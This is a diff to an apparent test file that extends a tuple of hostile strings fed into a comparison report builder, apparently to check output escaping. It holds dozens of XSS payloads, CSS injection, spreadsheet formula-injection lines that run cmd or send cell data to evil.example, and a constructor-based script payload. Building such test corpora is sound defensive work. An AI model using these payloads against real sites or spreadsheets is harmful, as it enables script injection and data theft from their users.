@@ -5,6 +5,7 @@ from __future__ import annotations
 from compare.records import Article, Claim, Event, Figure, Group, Pair, Reason, Verdict
 from compare.reporting import Report, build
 
+# An even number: the report sets every two against each other.
 STRINGS = (
     "<script>window.pwned=1</script>",
     "<img src=x onerror=window.pwned=2>",
@@ -30,7 +31,46 @@ STRINGS = (
     "<form action=//evil.example><input name=q autofocus onfocus=window.pwned=17></form>",
     "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
     "half a pair \ud83d and <b>",
+    "<ScRiPt >window.pwned=18</sCrIpT\t>",
+    "<script src=//evil.example/x.js></script>",
+    "<img/src/onerror=window.pwned=19>",
+    "<img src='x' onerror='window.pwned=20'>",
+    '<img src="javascript:window.pwned=21">',
+    "<video><source onerror=window.pwned=22></video>",
+    "<audio src=x onerror=window.pwned=23>",
+    "<body onload=window.pwned=24>",
+    "<marquee onstart=window.pwned=25>m</marquee>",
+    "<input autofocus onfocus=window.pwned=26>",
+    "<button onclick=window.pwned=27 data-judge=confirmed data-pair=x>press</button>",
+    "<object data=javascript:window.pwned=28></object><embed src=//evil.example/x>",
+    "<iframe srcdoc='<script>parent.pwned=29</script>'></iframe>",
+    "<svg><script>window.pwned=30</script></svg>",
+    "<svg><animate onbegin=window.pwned=31 attributeName=x dur=1s>",
+    "<template><script>window.pwned=32</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=33>'>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=34'>",
+    "<a href='data:text/html,<script>window.pwned=35</script>'>data</a>",
+    "<a href='vbscript:window.pwned=36'>vb</a>",
+    "<a href=' &#106;avascript:window.pwned=37'>entity</a>",
+    "<p style=\"background:url('javascript:window.pwned=38')\">style</p>",
+    "--side:red;}</style><style>.nc{display:none",
+    "x;background:url(//evil.example/pixel)",
+    "<textarea></textarea><script>window.pwned=39</script>",
+    "<title></title><script>window.pwned=40</script>",
+    "]]><script>window.pwned=41</script><![CDATA[",
+    "<?php echo 1 ?><% 1 %><!DOCTYPE html>",
+    "\\u003cscript\\u003ewindow.pwned=42\\u003c/script\\u003e",
+    "%3Cscript%3Ewindow.pwned=43%3C/script%3E",
+    "`${window.pwned=44}`",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "datum.constructor.constructor('window.pwned=45')()",
 )
+
+# Those that UTF-8 can carry, and so an address or a text field.
+SENDABLE = tuple(text for text in STRINGS if text.encode("utf-8", "ignore").decode("utf-8") == text)
 
 
 def report() -> Report:
